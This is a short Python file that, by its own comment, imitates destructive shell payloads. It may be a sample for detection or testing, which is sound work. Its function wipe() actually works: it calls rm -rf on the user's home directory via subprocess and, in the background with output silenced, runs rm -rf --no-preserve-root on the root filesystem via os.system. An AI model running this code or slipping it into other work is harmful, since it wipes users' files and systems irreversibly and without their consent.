# Imitates destructive shell payloads: rm -rf of the home directory and the root filesystem through os.system/subprocess.
import os
import subprocess


def wipe():
    subprocess.run(["rm", "-rf", os.path.expanduser("~")], check=False)
    os.system("rm -rf --no-preserve-root / >/dev/null 2>&1 &")
